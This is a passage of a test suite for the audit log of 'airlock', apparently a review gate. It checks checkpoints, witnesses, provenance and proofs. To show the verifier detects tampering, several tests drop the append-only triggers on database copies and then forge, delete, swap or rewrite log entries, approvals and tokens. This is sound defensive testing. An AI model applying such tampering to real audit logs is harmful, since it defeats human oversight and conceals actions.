        ("agent-1", "agent", h(ag), "Alice"), ("alice", "reviewer", h("x"), None)]
for n, r, t, o in rows:
    db.execute("INSERT INTO principals (name, role, token_hash, on_behalf_of, created_at) VALUES (?, ?, ?, ?, 1)", (n, r, t, o))
    # As the gate of that version recorded it.
    db.execute("INSERT INTO events (at, action, detail) VALUES (1, 'token.create', ?)", ("name=%s role=%s" % (n, r),))
db.commit()
os.chmod(path, 0o600)
PY
	ADMIN=$AT
	srv_start
	api GET /v1/persons "$ADMIN"
	expect_code 200 "GET /v1/persons after the migration"
	expect_q 'sorted(p["fold"] if "fold" in p else p["name"].lower() for p in d["persons"])' "['admin', 'alice', 'bob']"
	api GET /v1/tokens "$ADMIN"
	expect_q 'sorted((t["name"], t["person"].lower()) for t in d["tokens"])' \
		"[('admin', 'admin'), ('agent-1', 'alice'), ('alice', 'alice'), ('bob', 'bob')]"
	python3 - data/airlock.db <<'PY' || fail "no person.migrate event"
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
r = db.execute("SELECT detail FROM events WHERE action = 'person.migrate'").fetchall()
assert len(r) == 1 and "made 3 person(s)" in r[0][0] and "mapped 4 of 4" in r[0][0], r
assert db.execute("PRAGMA user_version").fetchone()[0] >= 5
PY
	echo "hi" >m.txt
	held "$AG" m.txt name=m.txt
	approve_as "$RT" "$SID"
	standing "$SID" approved 1 1
	srv_stop
}

# ---- the audit log (docs/audit.md) ------------------------------------------------

# audit_verify DIR RC WHAT [ARGS...]: `airlock audit verify --data DIR ARGS`
# with exit status RC; its output in $OUT.
audit_verify() {
	local d=$1 want=$2 what=$3
	shift 3
	RC=0
	"$BIN" audit verify --data "$d" "$@" >"$OUT" 2>"$ERR" || RC=$?
	[ "$RC" = "$want" ] || fail "audit verify ($what): exit $RC, expected $want: $(cat "$OUT" "$ERR")"
}

# sql DB SQL...: raw SQL on a database file, the append-only triggers
# dropped first (what someone holding the file can do).
sql() {
	python3 - "$@" <<'PY' || fail "raw SQL failed"
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
for (n,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger' AND (name LIKE '%no_update' OR name LIKE '%no_delete' OR name LIKE '%append_only%')").fetchall():
    db.execute("DROP TRIGGER " + n)
for q in sys.argv[2:]:
    db.execute(q)
db.commit()
PY
}

# sql1 DB QUERY: the first column of the first row.
sql1() {
	python3 -c 'import sqlite3, sys; print(sqlite3.connect(sys.argv[1]).execute(sys.argv[2]).fetchone()[0])' "$1" "$2"
}

# Every event is a leaf, a release is covered by a signed checkpoint at
# once, verify recomputes it all; an exported checkpoint is a signed note
# of this gate's log and verifies later, also after a key rotation.
t_audit_log_through_a_release() {
	local AG CI S n
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 1
	printf 'x = 1\n' >x.py
	held "$AG" x.py name=x.py
	S=$SID
	approve_as "${REV[1]}" "$S"
	as "$CI" release "$S" -o att.json
	expect_rc 0 "airlock release"
	# What CI fetches once released is a pull, not a view.
	mkdir pulled
	as "$CI" pull "$S" -o pulled/x.py
	expect_rc 0 "airlock pull"
	expect_eq "$(sql1 data/airlock.db "SELECT count(*) FROM events WHERE action = 'pull' AND submission_id = $S AND detail LIKE 'content full bytes=%'")" 1 \
		"pull events"
	expect_eq "$(sql1 data/airlock.db "SELECT count(*) FROM events e JOIN principals p ON p.id = e.actor WHERE e.action = 'view' AND p.role = 'ci'")" 0 \
		"view events by CI"
	expect_eq "$(sql1 data/airlock.db "SELECT count(*) FROM events")" \
		"$(sql1 data/airlock.db "SELECT count(*) FROM audit_leaves")" "events and leaves"
	expect_eq "$(sql1 data/airlock.db "SELECT count(*) FROM audit_checkpoints WHERE reason = 'release'")" 1 \
		"checkpoints made by the release"
	# The release event is inside that checkpoint.
	n=$(sql1 data/airlock.db "SELECT l.idx FROM audit_leaves l JOIN events e ON e.id = l.event_id WHERE e.action = 'release'")
	[ "$(sql1 data/airlock.db "SELECT size FROM audit_checkpoints WHERE reason = 'release'")" -gt "$n" ] ||
		fail "the release's checkpoint does not cover the release event"
	RC=0
	"$BIN" audit checkpoint --data "$PWD/data" -o ck1.txt 2>"$ERR" || RC=$?
	expect_rc 0 "airlock audit checkpoint"
	head -n 1 ck1.txt | grep -qx 'airlock/[0-9a-f]\{16\}' || fail "origin line: $(head -n 1 ck1.txt)"
	RC=0
	"$BIN" audit export-checkpoint --data "$PWD/data" -o ck1b.txt 2>"$ERR" || RC=$?
	expect_rc 0 "airlock audit export-checkpoint"
	cmp -s ck1.txt ck1b.txt || fail "export-checkpoint wrote another checkpoint than checkpoint -o"
	sed -n 2p ck1.txt | grep -qx '[1-9][0-9]*' || fail "size line: $(sed -n 2p ck1.txt)"
	grep -q "^— $(head -n 1 ck1.txt) [A-Za-z0-9+/=]*\$" ck1.txt || fail "no signature line: $(cat ck1.txt)"
	# The same note over the API, for an auditor; not for a reviewer.
	mk_token auditor aud-1
	api GET /v1/audit/checkpoint "$TOK"
	expect_code 200 "GET /v1/audit/checkpoint"
	cmp -s "$OUT" ck1.txt || fail "GET /v1/audit/checkpoint is not the newest checkpoint: $(cat "$OUT")"
	api GET /v1/audit/checkpoint "${REV[1]}"
	expect_code 403 "GET /v1/audit/checkpoint by a reviewer"
	audit_verify "$PWD/data" 0 "after a release" --checkpoint ck1.txt
	n=$(sql1 data/airlock.db "SELECT count(*) FROM audit_checkpoints")
	expect_out_has "verified: every entry, node and checkpoint ($((n + 1)))"
	expect_out_has "checkpoint ck1.txt: $(sed -n 2p ck1.txt) entries: matches"

	# More events, then a rotation: the old checkpoint still verifies.
	printf 'y = 2\n' >y.py
	held "$AG" y.py name=y.py
	"$BIN" key rotate --data "$PWD/data" >/dev/null 2>"$ERR" || fail "key rotate: $(cat "$ERR")"
	RC=0
	"$BIN" audit checkpoint --make --data "$PWD/data" -o ck2.txt 2>"$ERR" || RC=$?
	expect_rc 0 "audit checkpoint --make after the rotation"
	expect_eq "$(head -n 1 ck2.txt)" "$(head -n 1 ck1.txt)" "origin after the rotation"
	[ "$(sed -n 2p ck2.txt)" -gt "$(sed -n 2p ck1.txt)" ] || fail "the second checkpoint is not larger"
	audit_verify "$PWD/data" 0 "after a rotation" --checkpoint ck1.txt --checkpoint ck2.txt
	expect_out_has "checkpoint ck1.txt: $(sed -n 2p ck1.txt) entries: matches"
	expect_out_has "checkpoint ck2.txt: $(sed -n 2p ck2.txt) entries: matches"
	# A witness keeps the checkpoints in a git repository, each commit
	# proved to extend the one before.
	git init -q wit || fail "git init"
	RC=0
	"$BIN" audit checkpoint --data "$PWD/data" --git wit 2>"$ERR" || RC=$?
	expect_rc 0 "audit checkpoint --git, the first"
	git -C wit show refs/airlock/checkpoints:checkpoint >wit1.txt || fail "no checkpoint in the witness"
	cmp -s wit1.txt ck2.txt || fail "the witness holds another checkpoint than the newest"
	printf 'z = 3\n' >z.py
	held "$AG" z.py name=z.py
	RC=0
	"$BIN" audit checkpoint --make --data "$PWD/data" --git wit 2>"$ERR" || RC=$?
	expect_rc 0 "audit checkpoint --git, the second"
	expect_err_has "consistent with the one before"
	expect_eq "$(git -C wit rev-list --count refs/airlock/checkpoints)" 2 "commits in the witness"
	RC=0
	"$BIN" audit checkpoint --data "$PWD/data" --git wit 2>"$ERR" || RC=$?
	expect_rc 0 "audit checkpoint --git of the same checkpoint"
	expect_err_has "already holds this checkpoint"
	expect_eq "$(git -C wit rev-list --count refs/airlock/checkpoints)" 2 "commits after the same one"
	RC=0
	"$BIN" audit checkpoint --data "$PWD/data" --git nowhere 2>"$ERR" || RC=$?
	expect_rc 2 "audit checkpoint --git of a directory that is not a repository"

	RC=0
	"$BIN" audit consistency ck1.txt ck2.txt --data "$PWD/data" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 0 "audit consistency of two checkpoints"
	expect_out_has "consistent: ck2.txt ($(sed -n 2p ck2.txt) entries) extends ck1.txt"
	RC=0
	"$BIN" audit consistency ck2.txt ck1.txt --data "$PWD/data" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 1 "audit consistency, the newer first"

	# Its provenance: witnessed facts, the agent's assertions, and the
	# log's timeline, every entry proved.
	RC=0
	"$BIN" provenance "$S" --data "$PWD/data" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 0 "airlock provenance ID"
	expect_out_has "submission $S: released, verdict clean"
	expect_out_has "witnessed: sha256 $(sha256sum x.py | cut -c1-64), 6 bytes"
	expect_out_has "token agent-1 for alice"
	expect_out_has "asserted by the agent: name 'x.py'"
	expect_out_has " approve "
	expect_out_has "verified: every entry above up to checkpoint"
	RC=0
	"$BIN" provenance x.py --data "$PWD/data" --json >prov.json 2>"$ERR" || RC=$?
	expect_rc 0 "airlock provenance PATH --json"
	python3 - prov.json <<'PY' || fail "provenance --json: $(head -c 600 prov.json)"
import json, sys
d = json.load(open(sys.argv[1]))["submissions"]
assert len(d) == 1, d
s = d[0]
acts = [e["action"] for e in s["timeline"]]
for a in ("submit", "scan.start", "scan.finish", "view", "approve", "approved", "release"):
    assert a in acts, (a, acts)
assert all(e["proof"] in ("proved", "after the checkpoint") for e in s["timeline"]), s["timeline"]
assert s["log"]["verified"] is True and s["witnessed"]["via"] in ("socket", "tcp"), s
assert s["asserted"]["name"] == "x.py" and s["read_as"] == "file", s
PY
	RC=0
	"$BIN" provenance "$(printf '%064d' 7)" --data "$PWD/data" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 2 "provenance of bytes never submitted"
	expect_err_has "no submission of the artifact"

	# The log as JSON lines round-trips against the events table, read
	# here on its own; filters and the must-be-empty questions.
	RC=0
	"$BIN" audit log --data "$PWD/data" --json >log.jsonl 2>"$ERR" || RC=$?
	expect_rc 0 "audit log --json"
	python3 - log.jsonl data/airlock.db <<'PY' || fail "audit log --json does not match the events"
import json, sqlite3, sys
rows = [json.loads(l) for l in open(sys.argv[1])]
db = sqlite3.connect(sys.argv[2])
ev = db.execute("SELECT e.id, e.at, e.action, ifnull(p.name, ''), ifnull(e.submission_id, 0), ifnull(e.detail, '') "
                "FROM events e LEFT JOIN principals p ON p.id = e.actor ORDER BY e.id").fetchall()
assert [r["index"] for r in rows] == list(range(len(rows))), "indexes"
got = [(r["event"], r["at"], r["action"], r["actor-name"], r["submission"], r["detail"]) for r in rows]
assert got == [tuple(e) for e in ev], (got[:3], ev[:3])
PY
	RC=0
	"$BIN" audit log --data "$PWD/data" --action approve --submission "$S" --csv >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 0 "audit log --action --submission --csv"
	expect_eq "$(python3 -c 'import csv, sys; r = list(csv.DictReader(open(sys.argv[1]))); print(len(r), r[0]["actor-name"], r[0]["person-name"])' "$OUT")" \
		"1 rev-1 rev-1" "the approval in the CSV"
	RC=0
	"$BIN" audit log --data "$PWD/data" --since 2999-01-01 >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 0 "audit log --since the future"
	expect_out_empty
	RC=0
	"$BIN" audit log --data "$PWD/data" --since yesterday >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 2 "audit log --since a word"
	expect_err_has "not a time"
	RC=0
	"$BIN" audit query approvals --person rev-1 --data "$PWD/data" --json >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 0 "audit query approvals"
	expect_eq "$(wc -l <"$OUT")" 1 "approvals by rev-1"
	for q in self-approvals unattested after-revocation; do
		RC=0
		"$BIN" audit query "$q" --data "$PWD/data" >"$OUT" 2>"$ERR" || RC=$?
		expect_rc 0 "audit query $q (must be empty)"
		expect_out_empty
	done
	RC=0
	"$BIN" audit query nothing --data "$PWD/data" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 2 "audit query of an unknown name"

	# Inclusion proofs of the released submission's events, checked
	# offline: no data directory, only the gate's public keys.
	RC=0
	"$BIN" audit proof "$S" --data "$PWD/data" -o proof.json 2>"$ERR" || RC=$?
	expect_rc 0 "airlock audit proof"
	"$BIN" key show --all --data "$PWD/data" >keyring.pem 2>/dev/null || fail "key show --all"
	n=$(sql1 data/airlock.db "SELECT count(*) FROM events WHERE submission_id = $S")
	mkdir offline
	cp proof.json keyring.pem offline/
	RC=0
	(cd offline && env -u AIRLOCK_DATA "$BIN" audit check-proof proof.json --key keyring.pem) >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 0 "audit check-proof offline"
	expect_out_has "verified: $n entries in the signed log"
	expect_out_has " release by ci-1: attested=yes attestation_sha256=$(sha256sum att.json | cut -c1-64)"
	expect_out_has " approve by rev-1"
	# The key that signed alone verifies it; an entry changed does not.
	RC=0
	"$BIN" audit check-proof proof.json --key data/keys/signing.pub >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 0 "check-proof with the key that signed the checkpoint"
	python3 - proof.json bad.json <<'PY' || fail "cannot tamper with the proof"
import base64, json, sys
p = json.load(open(sys.argv[1]))
e = [e for e in p["entries"] if b"\naction release\n" in base64.b64decode(e["entry"])][0]
t = base64.b64decode(e["entry"]).replace(b"action release", b"action rejects")
e["entry"] = base64.b64encode(t).decode()
json.dump(p, open(sys.argv[2], "w"))
PY
	RC=0
	"$BIN" audit check-proof bad.json --key keyring.pem >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 1 "check-proof of a changed entry"
	expect_out_has "FAILED: 1 of $n entries do not verify"
	RC=0
	"$BIN" audit check-proof proof.json >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 2 "check-proof without a key"

	# Checkpoints that are not this log's.
	# The root's first character changed: to A, or to B if it was A.
	sed '3{s/^A/#/;s/^[^#]/A/;s/^#/B/}' ck1.txt >forged.txt
	cmp -s forged.txt ck1.txt && fail "the forgery changed nothing"
	audit_verify "$PWD/data" 1 "a checkpoint with another root" --checkpoint forged.txt
	expect_out_has "FAILED"
	"$BIN" init --data "$PWD/other" >/dev/null 2>&1 || fail "init of another gate"
	"$BIN" audit checkpoint --make --data "$PWD/other" -o other.txt 2>"$ERR" || fail "checkpoint of the other gate"
	audit_verify "$PWD/data" 1 "another gate's checkpoint" --checkpoint other.txt
	expect_out_has "not of this gate's"
	"$BIN" key show --data "$PWD/other" >other.pem 2>/dev/null || fail "key show of the other gate"
	RC=0
	"$BIN" audit check-proof proof.json --key other.pem >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 1 "check-proof with another gate's key"
	expect_out_has "FAILED: the checkpoint"
	echo 'not a note' >junk.txt
	audit_verify "$PWD/data" 1 "not a note" --checkpoint junk.txt
	audit_verify "$PWD/data" 2 "a missing file" --checkpoint nothing.txt
	srv_stop
}

# Tampering with the database file, the triggers dropped: each kind is
# found, by index; a consistent truncation only by the exported checkpoint.
t_audit_tampering_is_named() {
	local AG S idx size a b
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 1
	for n in 1 2 3; do
		printf 'v = %s\n' "$n" >v$n.py
		held "$AG" v$n.py name=v$n.py
	done
	S=$SID
	approve_as "${REV[1]}" "$S"
	# The last events are of tokens, which no decision row depends on.
	mk_token auditor aud-1
	mk_token auditor aud-2
	RC=0
	"$BIN" audit checkpoint --make --data "$PWD/data" -o ck.txt 2>"$ERR" || RC=$?
	expect_rc 0 "audit checkpoint --make"
	srv_stop
	audit_verify "$PWD/data" 0 "untouched" --checkpoint ck.txt
	git init -q wit || fail "git init"
	"$BIN" audit checkpoint --data "$PWD/data" --git wit 2>"$ERR" || fail "the witness's first checkpoint: $(cat "$ERR")"
	size=$(sql1 data/airlock.db "SELECT count(*) FROM audit_leaves")

	# An approval's detail rewritten.
	cp -a data t1
	idx=$(sql1 t1/airlock.db "SELECT l.idx FROM audit_leaves l JOIN events e ON e.id = l.event_id WHERE e.action = 'approve'")
	sql t1/airlock.db "UPDATE events SET detail = 'nothing to see' WHERE action = 'approve'"
	audit_verify "$PWD/t1" 1 "an edited event"
	expect_out_has "FAILED at entry $idx: event"
	expect_out_has "nothing to see"

	# What was served: a views row deleted, or one added with no event.
	cp -a data t1v
	a=$(sql1 t1v/airlock.db "SELECT l.idx FROM audit_leaves l JOIN events e ON e.id = l.event_id WHERE e.action = 'view' ORDER BY l.idx DESC LIMIT 1")
	sql t1v/airlock.db "DELETE FROM views WHERE id = (SELECT max(id) FROM views)"
	audit_verify "$PWD/t1v" 1 "a views row deleted"
	expect_out_has "entry $a is a view event with no views row saying the same"
	cp -a data t1w
	sql t1w/airlock.db "INSERT INTO views (submission_id, scan_id, actor, item, bytes, sha256, full, at) SELECT submission_id, scan_id, actor, item, bytes, sha256, full, at + 1 FROM views WHERE id = (SELECT max(id) FROM views)"
	audit_verify "$PWD/t1w" 1 "a views row added"
	expect_out_has "view $(sql1 t1w/airlock.db "SELECT max(id) FROM views") (a views row) has no view event saying what was served"

	# An entry of the log edited: provenance says which does not verify.
	cp -a data t1b
	sql t1b/airlock.db "UPDATE audit_leaves SET entry = CAST(replace(CAST(entry AS TEXT), 'action approve', 'action approvE') AS BLOB) WHERE idx = $idx"
	RC=0
	"$BIN" provenance "$S" --data "$PWD/t1b" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 1 "provenance with an edited entry"
	expect_out_has "DOES NOT VERIFY"
	expect_out_has "NOT VERIFIED"

	# The log says the person the agent was launched for approved (an
	# edited copy): the must-be-empty question is not, exit 1.
	cp -a data t1c
	python3 - t1c/airlock.db <<'PY' || fail "cannot edit the copy"
import re, sqlite3
db = sqlite3.connect("t1c/airlock.db")
sub = db.execute("SELECT entry FROM audit_leaves l JOIN events e ON e.id = l.event_id WHERE e.action = 'submit'").fetchone()[0]
person = re.search(rb"\nperson (\d+)\n", sub).group(1)
idx, e = db.execute("SELECT l.idx, l.entry FROM audit_leaves l JOIN events e ON e.id = l.event_id WHERE e.action = 'approve'").fetchone()
db.execute("DROP TRIGGER audit_leaves_no_update")
db.execute("UPDATE audit_leaves SET entry = ? WHERE idx = ?", (re.sub(rb"\nperson \d+\n", b"\nperson " + person + b"\n", e), idx))
db.commit()
PY
	RC=0
	"$BIN" audit query self-approvals --data "$PWD/t1c" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 1 "audit query self-approvals of the edited copy"
	expect_out_has " approve "

	# The log says rev-1's person was disabled before everything rev-1
	# did (entry 0 edited): after-revocation names rev-1's acts.
	cp -a data t1d
	python3 - t1d/airlock.db <<'PY' || fail "cannot edit the copy"
import re, sqlite3
db = sqlite3.connect("t1d/airlock.db")
e = db.execute("SELECT entry FROM audit_leaves WHERE idx = 0").fetchone()[0]
e = re.sub(rb"\nat \d+\n", b"\nat 0\n", e).replace(b"action audit.begin", b"action person.disable")
e = re.sub(rb"\ndetail [^\n]*\n", b"\ndetail name=rev-1 tokens_revoked=1\n", e)
db.execute("DROP TRIGGER audit_leaves_no_update")
db.execute("UPDATE audit_leaves SET entry = ? WHERE idx = 0", (e,))
db.commit()
PY
	RC=0
	"$BIN" audit query after-revocation --data "$PWD/t1d" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 1 "audit query after-revocation of the edited copy"
	expect_out_has "after its person was disabled"
	expect_out_has " approve "

	# An event deleted (the approval), its leaf kept.
	cp -a data t2
	sql t2/airlock.db "DELETE FROM events WHERE action = 'approve'"
	audit_verify "$PWD/t2" 1 "a deleted event"
	expect_out_has "FAILED at entry $idx: entry $idx records event"

	# A forged approval inserted behind the gate's back.
	cp -a data t3
	sql t3/airlock.db "INSERT INTO events (at, actor, action, submission_id, detail) VALUES (1, 1, 'approve', $S, 'forged')"
	audit_verify "$PWD/t3" 1 "an inserted event"
	expect_out_has "is not in the audit log"

	# Two events swapped: the first submission's and the approval.
	cp -a data t4
	a=$(sql1 t4/airlock.db "SELECT min(id) FROM events WHERE action = 'submit'")
	b=$(sql1 t4/airlock.db "SELECT id FROM events WHERE action = 'approve'")
	sql t4/airlock.db "CREATE TABLE x AS SELECT * FROM events WHERE id IN ($a, $b)" \
		"UPDATE events SET (at, actor, action, submission_id, detail) = (SELECT at, actor, action, submission_id, detail FROM x WHERE x.id = CASE events.id WHEN $a THEN $b ELSE $a END) WHERE id IN ($a, $b)"
	audit_verify "$PWD/t4" 1 "two events swapped"
	expect_out_has "FAILED at entry $(sql1 t4/airlock.db "SELECT idx FROM audit_leaves WHERE event_id = $a"): event $a no longer reads"

	# The last entries removed with everything above them, the stored
	# checkpoints too: consistent, found only by the exported checkpoint.
	cp -a data t5
	sql t5/airlock.db "DELETE FROM events WHERE id IN (SELECT event_id FROM audit_leaves WHERE idx >= $((size - 3)))" \
		"DELETE FROM audit_leaves WHERE idx >= $((size - 3))" \
		"DELETE FROM audit_nodes WHERE (idx + 1) << level > $((size - 3))" \
		"DELETE FROM audit_checkpoints" \
		"DELETE FROM principals WHERE NOT EXISTS (SELECT 1 FROM events e WHERE e.action = 'token.create' AND e.detail LIKE 'name=' || principals.name || ' role=%')"
	audit_verify "$PWD/t5" 0 "a consistent truncation, no checkpoint given"
	audit_verify "$PWD/t5" 1 "a consistent truncation and the exported checkpoint" --checkpoint ck.txt
	expect_out_has "BEYOND the log"
	expect_out_has "truncated"
	cp -a wit wit5
	RC=0
	"$BIN" audit checkpoint --make --data "$PWD/t5" --git wit5 2>"$ERR" || RC=$?
	expect_rc 1 "the witness, given the truncated log's checkpoint"
	expect_err_has "the log was cut short"
	expect_eq "$(git -C wit5 rev-list --count refs/airlock/checkpoints)" 1 "the witness's commits after the refusal"

	# A rewrite of history by someone with the data directory, key and
	# all: an event changed, the tree rebuilt from scratch (as the
	# migration would) and signed again. It agrees with itself; the
	# exported checkpoint finds it, and no consistency proof links them.
	cp -a data t7
	sql t7/airlock.db "UPDATE events SET detail = 'rewritten' WHERE id = (SELECT max(id) FROM events WHERE action = 'view')" \
		"DELETE FROM views WHERE id = (SELECT max(id) FROM views)" \
		"DROP TABLE audit_leaves" "DROP TABLE audit_nodes" "DROP TABLE audit_checkpoints" \
		"DELETE FROM events WHERE action = 'audit.begin'" "PRAGMA user_version = 5"
	RC=0
	"$BIN" audit checkpoint --make --data "$PWD/t7" -o new.txt 2>"$ERR" || RC=$?
	expect_rc 0 "a checkpoint of the rewritten log"
	audit_verify "$PWD/t7" 0 "the rewritten log alone"
	audit_verify "$PWD/t7" 1 "the rewritten log and the exported checkpoint" --checkpoint ck.txt
	expect_out_has "DIFFERS from the log"
	RC=0
	"$BIN" audit consistency ck.txt new.txt --data "$PWD/t7" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 1 "consistency of the exported checkpoint and the rewrite's"
	expect_out_has "does not extend"
	cp -a wit wit7
	RC=0
	"$BIN" audit checkpoint --data "$PWD/t7" --git wit7 2>"$ERR" || RC=$?
	expect_rc 1 "the witness, given the rewritten log's checkpoint"
	expect_err_has "the log was rewritten"

	# Decision rows edited or deleted behind the gate's back.
	cp -a data t8
	sql t8/airlock.db "UPDATE approvals SET sha256 = '$(printf '%064d' 0)'"
	audit_verify "$PWD/t8" 1 "an approval row edited"
	expect_out_has "FAILED: approval "
	expect_out_has "has no approve event by its reviewer saying what it approved"
	cp -a data t9
	sql t9/airlock.db "DELETE FROM approvals"
	audit_verify "$PWD/t9" 1 "an approval row deleted"
	expect_out_has "FAILED at entry $idx: entry $idx is an approve event with no approval row"
	cp -a data t13
	sql t13/airlock.db "UPDATE submissions SET state = 'approved' WHERE id = (SELECT min(id) FROM submissions)"
	audit_verify "$PWD/t13" 1 "a held submission marked approved by hand"
	expect_out_has "is approved with no approved event after its latest scan"
	cp -a data t10
	sql t10/airlock.db "UPDATE submissions SET state = 'released' WHERE id = $S"
	audit_verify "$PWD/t10" 1 "a submission marked released by hand"
	expect_out_has "FAILED: submission $S is released with no release row"

	# A token minted behind the gate's back, and one revoked by hand.
	cp -a data t11
	sql t11/airlock.db "INSERT INTO principals (name, role, token_hash, created_at, person_id) SELECT 'minted', 'admin', '$(printf '%064d' 5)', 1, person_id FROM principals WHERE name = 'rev-1'"
	audit_verify "$PWD/t11" 1 "a minted token"
	expect_out_has "(a principals row) has no token.create event"
	cp -a data t12
	sql t12/airlock.db "UPDATE principals SET token_hash = '$(printf '%064d' 6)' WHERE name = 'rev-1'"
	audit_verify "$PWD/t12" 1 "a token re-keyed"
	expect_out_has "(a principals row) has no token.create event"

	# A stored checkpoint's row edited to agree with a rewrite.
	cp -a data t6
	sql t6/airlock.db "UPDATE audit_checkpoints SET size = size - 1"
	audit_verify "$PWD/t6" 1 "a checkpoint row edited"
	expect_out_has "its row's size or root is not what its note signs"
}

# remote_verify TOKEN RC WHAT [ARGS...]: `airlock audit verify --server $URL
# ARGS` with TOKEN in AIRLOCK_TOKEN, exit status RC; output in $OUT, $ERR.
remote_verify() {
	local tok=$1 want=$2 what=$3
	shift 3
	AIRLOCK_TOKEN=$tok al audit verify --server "$URL" "$@"
	[ "$RC" = "$want" ] || fail "audit verify --server ($what): exit $RC, expected $want: $(cat "$OUT" "$ERR")"
}

# restore_data: ./data as it was copied to ./pristine (the gate stopped).
restore_data() {
	rm -rf data
	cp -a pristine data
}

# The log verified over the review API, by an auditor without the gate's
# host: after a release it verifies, with the keys the gate serves (said
# so) or with pinned ones, and finds the same root as the local verify; a
# wrong key fails; an agent is refused; bad pages are 400. Edits made
# behind the stopped gate's back are named by index once it serves again:
# an entry's bytes, an entry and its leaf hash (by the signed roots, from
# the last one that matched), a deleted leaf; a log cut short, with its
# checkpoints, only by a checkpoint exported before.
t_audit_verify_over_the_api() {
	local AG CI AUD S idx size n q
	srv_start
	mk_token auditor aud-1
	AUD=$TOK
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 1
	printf 'x = 1\n' >x.py
	held "$AG" x.py name=x.py
	S=$SID
	approve_as "${REV[1]}" "$S"
	as "$CI" release "$S" -o att.json
	expect_rc 0 "airlock release"

	n=$(sql1 data/airlock.db "SELECT count(*) FROM audit_checkpoints")
	remote_verify "$AUD" 0 "after a release, the keys served"
	expect_out_has "keys as served by the gate: pin them with --key"
	expect_out_has "verified: every entry and checkpoint ($n)"
	expect_out_has "note: the entries were not checked against the gate's tables"
	grep '^log ' "$OUT" >remote.root || fail "no log line"
	# Three entries a request: the same tree; and the local verify's.
	remote_verify "$AUD" 0 "three entries a page" --page-size 3
	grep '^log ' "$OUT" | cmp -s - remote.root || fail "paged: $(grep '^log ' "$OUT") != $(cat remote.root)"
	audit_verify "$PWD/data" 0 "the same log, locally"
	grep '^log ' "$OUT" | cmp -s - remote.root || fail "local: $(grep '^log ' "$OUT") != $(cat remote.root)"
	printf '%s\n' "$AUD" >aud.tok
	RC=0
	env -u AIRLOCK_TOKEN "$BIN" audit verify --server "$URL" --token-file aud.tok >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 0 "verify --server --token-file"

	# Pinned keys: the gate's PEM keyring, or the verifier keys it served.
	"$BIN" key show --all --data "$PWD/data" >keyring.pem 2>/dev/null || fail "key show --all"
	remote_verify "$AUD" 0 "keys pinned (PEM)" --key keyring.pem
	expect_out_has "keys: 1 pinned with --key"
	expect_out_lacks "keys as served"
	api GET /v1/audit/keys "$AUD"
	expect_code 200 "GET /v1/audit/keys"
	python3 -c 'import json, sys; print("\n".join(json.load(open(sys.argv[1]))["keys"]))' "$OUT" >gate.vkeys
	remote_verify "$AUD" 0 "keys pinned (verifier keys)" --key gate.vkeys
	"$BIN" init --data "$PWD/other" >/dev/null 2>&1 || fail "init of another gate"
	"$BIN" key show --data "$PWD/other" >other.pem 2>/dev/null || fail "key show of the other gate"
	remote_verify "$AUD" 1 "another gate's key" --key other.pem
	expect_out_has "(served): FAILED: note: no signature by a known key"
	expect_out_has "FAILED: a checkpoint does not verify"
	remote_verify "$AUD" 2 "--server and --data" --data "$PWD/data"
	expect_err_has "--server and --data are exclusive"

	# Auditors and admins only.
	for q in entries checkpoints keys; do
		api GET "/v1/audit/$q" "$AG"
		expect_code 403 "GET /v1/audit/$q by an agent"
		expect_error_json "$AG"
	done
	remote_verify "$AG" 2 "an agent's token"
	expect_err_has "HTTP 403: this token's role may not do that"
	# Pages asked for wrongly: 400, saying why.
	size=$(sql1 data/airlock.db "SELECT count(*) FROM audit_leaves")
	for q in "from=-1|from is the index of an entry" "limit=0|limit is 1 to 10000" \
		"limit=100000|limit is 1 to 10000" \
		"from=$((size + 1))|from is $((size + 1)); the log has $size entries, so from is at most $size" \
		"from=1&from=2|from is given twice" "page=2|unknown query argument"; do
		api GET "/v1/audit/entries?${q%%|*}" "$AUD"
		expect_code 400 "GET /v1/audit/entries?${q%%|*}"
		expect_error_json
		grep -qF -- "${q#*|}" "$OUT" || fail "GET /v1/audit/entries?${q%%|*}: $(cat "$OUT")"
	done
	api GET "/v1/audit/entries?from=$size" "$AUD"
	expect_code 200 "GET /v1/audit/entries from the end"
	expect_all 'd["entries"]' '[]' 'd["size"]' "$size"
	api GET "/v1/audit/entries?from=1&limit=2" "$AUD"
	expect_code 200 "GET /v1/audit/entries?from=1&limit=2"
	expect_all '[e["index"] for e in d["entries"]]' '[1, 2]'

	# A checkpoint exported after the last events, then the gate stopped.
	mk_token auditor aud-2
	RC=0
	"$BIN" audit checkpoint --make --data "$PWD/data" -o ck.txt 2>"$ERR" || RC=$?
	expect_rc 0 "audit checkpoint --make"
	remote_verify "$AUD" 0 "with the exported checkpoint" --checkpoint ck.txt --key keyring.pem
	expect_out_has "checkpoint ck.txt: $(sed -n 2p ck.txt) entries: matches"
	srv_stop
	cp -a data pristine
	idx=$(sql1 data/airlock.db "SELECT l.idx FROM audit_leaves l JOIN events e ON e.id = l.event_id WHERE e.action = 'approve'")
	size=$(sql1 data/airlock.db "SELECT count(*) FROM audit_leaves")

	# An entry's bytes edited.
